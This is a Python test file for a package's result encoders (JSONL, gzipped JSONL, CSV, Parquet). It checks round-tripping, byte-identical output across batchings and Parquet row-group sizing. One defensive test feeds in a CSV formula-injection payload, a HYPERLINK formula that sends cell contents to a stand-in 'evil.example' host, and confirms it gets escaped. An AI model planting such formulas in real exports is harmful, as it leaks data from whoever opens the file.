"""What every format of result objects keeps."""

import csv
import gzip
import io
from collections.abc import Callable, Sequence
from typing import Any

import orjson
import pyarrow.parquet as pq
import pytest

from penstock.core.records.result_names import FORMATS
from penstock.core.rows.payload import Kept
from penstock.core.rows.rejections import Rejection
from penstock.encodings import result_formats
from penstock.encodings.base import AnsweredRows
from penstock.encodings.columns import GROUP_BYTES, GROUP_ROWS, ParquetRows

WHY = Rejection("bad_row", 'line 3: "x", no number\n', "expand")
Row = tuple[int, str | None, Any, str | None]


def runs() -> list[AnsweredRows]:
    """Rows as they come: two members, texts, an error, and what was kept."""
    answers = [b'{"label":1,"score":0.5}', b'"a, \\"b\\" 100%"', b"null", b"[1,2]"]
    kept = Kept.of([b'{"site":"x"}'] * 2, [1_795_208_217_412, None])
    return [
        AnsweredRows(0, answers, "m/1.csv", {2: WHY}),
        AnsweredRows(4, answers[:2], "ü%d.csv", {}, kept),
        AnsweredRows(6, [b"%d" % row for row in range(3_000)], None, {}),
    ]


def written(name: str, found: Sequence[AnsweredRows]) -> bytes:
    encoding, parts = result_formats.find(name)(), []
    for rows in found:
        encoding.add(rows)
        if encoding.is_due:
            parts.append(encoding.take())
    return b"".join([*parts, encoding.close()])


def by_json(data: bytes) -> list[Row]:
    documents = [orjson.loads(line) for line in data.splitlines()]
    return [
        (
            document["row"],
            document.get("member"),
            document["prediction"],
            document.get("error", {}).get("message"),
        )
        for document in documents
    ]


def by_csv(data: bytes) -> list[Row]:
    return [
        (
            int(one["row"]),
            one["member"] or None,
            orjson.loads(one["prediction"]) if one["prediction"] else None,
            one["error_message"] or None,
        )
        for one in csv.DictReader(io.StringIO(data.decode(), newline=""))
    ]


def by_parquet(data: bytes) -> list[Row]:
    return [
        (
            one["row"],
            one["member"],
            orjson.loads(one["prediction"]) if one["prediction"] else None,
            one["error_message"],
        )
        for one in pq.read_table(io.BytesIO(data)).to_pylist()
    ]


READERS: dict[str, Callable[[bytes], list[Row]]] = {
    "jsonl": by_json,
    "jsonl.gz": lambda data: by_json(gzip.decompress(data)),
    "csv": by_csv,
    "parquet": by_parquet,
}


def test_every_format_is_read_here() -> None:
    assert set(READERS) == set(FORMATS)


@pytest.mark.parametrize("name", FORMATS)
def test_rows_come_back_as_they_were(name: str) -> None:
    expected: list[Row] = [
        (0, "m/1.csv", {"label": 1, "score": 0.5}, None),
        (1, "m/1.csv", 'a, "b" 100%', None),
        (2, "m/1.csv", None, WHY.message),
        (3, "m/1.csv", [1, 2], None),
        (4, "ü%d.csv", {"label": 1, "score": 0.5}, None),
        (5, "ü%d.csv", 'a, "b" 100%', None),
        *((row, None, row - 6, None) for row in range(6, 3_006)),
    ]
    assert READERS[name](written(name, runs())) == expected


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_no_text_of_strangers_is_a_formula_of_a_spreadsheet(start: str) -> None:
    text = f'{start}HYPERLINK("http://evil.example?"&A1,"x")'
    rows = AnsweredRows(
        0, [b"-1.5", b"null"], text, {1: Rejection("model_rejected", text, "predict")}
    )
    good, bad = csv.DictReader(io.StringIO(written("csv", [rows]).decode(), newline=""))
    assert good["member"] == bad["member"] == bad["error_message"] == f"'{text}"
    assert good["prediction"] == "-1.5"


@pytest.mark.parametrize("name", FORMATS)
def test_an_object_without_rows_can_be_read(name: str) -> None:
    assert READERS[name](written(name, [])) == []


@pytest.mark.parametrize("name", FORMATS)
def test_the_bytes_do_not_depend_on_how_the_rows_came(name: str) -> None:
    """A repeat after a crash has other batches and has to write the same object."""
    answers = [b'{"label":%d,"score":0.%d}' % (row % 2, row % 997) for row in range(150_000)]
    whole = written(name, [AnsweredRows(0, answers, None, {})])
    cut = [
        AnsweredRows(at, answers[at : at + 2_500], None, {}) for at in range(0, len(answers), 2_500)
    ]
    assert written(name, cut) == whole


def test_long_rows_are_fewer_in_a_group_however_they_come() -> None:
    """Embeddings of 15 kB: memory is bounded by bytes, too."""
    answers = [b'"%015000d"' % row for row in range(3_000)]
    encoding, parts, most = ParquetRows(), list[bytes](), 0
    for at in range(0, len(answers), 100):
        encoding.add(AnsweredRows(at, answers[at : at + 100], None, {}))
        most = max(most, encoding.waiting_bytes)
        if encoding.is_due:
            parts.append(encoding.take())
    data = b"".join([*parts, encoding.close()])
    assert most < GROUP_BYTES + 100 * 16_000
    assert written("parquet", [AnsweredRows(0, answers, None, {})]) == data
    assert [row[2] for row in by_parquet(data)] == [f"{row:015000d}" for row in range(3_000)]


def test_a_line_has_what_is_not_the_same_for_the_whole_object() -> None:
    lines = [orjson.loads(line) for line in written("jsonl", runs()).splitlines()]
    assert list(lines[1]) == ["row", "member", "prediction"]
    assert lines[2]["error"] == {"code": "bad_row", "message": WHY.message}
    assert (lines[4]["event_time"], lines[4]["columns"]) == (1_795_208_217_412, {"site": "x"})
    assert "event_time" not in lines[5]


def test_parquet_has_row_groups_of_one_size_and_typed_columns() -> None:
    rows = 2 * GROUP_ROWS + 5
    answers = [b"%d" % row for row in range(rows)]
    cut = [AnsweredRows(at, answers[at : at + 2_500], None, {}) for at in range(0, rows, 2_500)]
    file = pq.ParquetFile(io.BytesIO(written("parquet", cut)))
    groups = [file.metadata.row_group(n).num_rows for n in range(file.num_row_groups)]
    assert groups == [GROUP_ROWS, GROUP_ROWS, 5]
    kept = pq.read_table(io.BytesIO(written("parquet", runs()[1:2]))).to_pylist()
    assert kept[0]["columns"] == '{"site":"x"}'
    assert kept[0]["event_time"].timestamp() * 1000 == 1_795_208_217_412
